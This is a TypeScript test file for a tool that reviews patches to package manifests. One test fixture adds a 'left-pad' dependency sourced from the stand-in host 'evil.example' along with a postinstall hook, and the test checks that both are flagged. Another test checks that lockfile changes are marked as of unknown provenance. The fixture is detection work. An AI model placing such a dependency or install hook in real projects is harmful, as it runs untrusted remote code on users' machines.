/** What a plan says of the packages that a change brings. */
import assert from "node:assert/strict";
import { test } from "node:test";
import { codes, patchInput, plan } from "./planning.ts";
import { World, patchOf } from "./world.ts";

test("[GI-17] packages and install scripts of a manifest are named", async (t) => {
  const world = new World(t);
  world.commit("main", { "package.json": '{"dependencies":{"a":"1.0.0"}}\n' });
  const after = '{"dependencies":{"a":"1.0.0","left-pad":"git+https://evil.example/x"},"scripts":{"postinstall":"node x.js"}}\n';
  const analysis = await plan(world.connector(), patchInput(patchOf("package.json", '{"dependencies":{"a":"1.0.0"}}\n', after)));
  assert.deepEqual(codes(analysis, "package.json"), ["git.install_script", "git.dependency_source"]);
  assert.ok(analysis.impact.some(({ topic, text }) => topic === "dependencies" && text.startsWith("left-pad")));
});

test("[GI-17] that packages change in a file of another kind is said, and that nobody knows which", async (t) => {
  const world = new World(t);
  world.commit("main", { "yarn.lock": "a@1:\n", ".gitmodules": "[submodule]\n" });
  const analysis = await plan(world.connector(), patchInput(patchOf("yarn.lock", "a@1:\n", "a@2:\n")));
  const open = analysis.unverified.filter(({ topic }) => topic === "dependencies");
  assert.deepEqual(
    open.map(({ resource, provenance }) => [resource, provenance]),
    [["git:shop#yarn.lock", "unknown"]],
  );
});
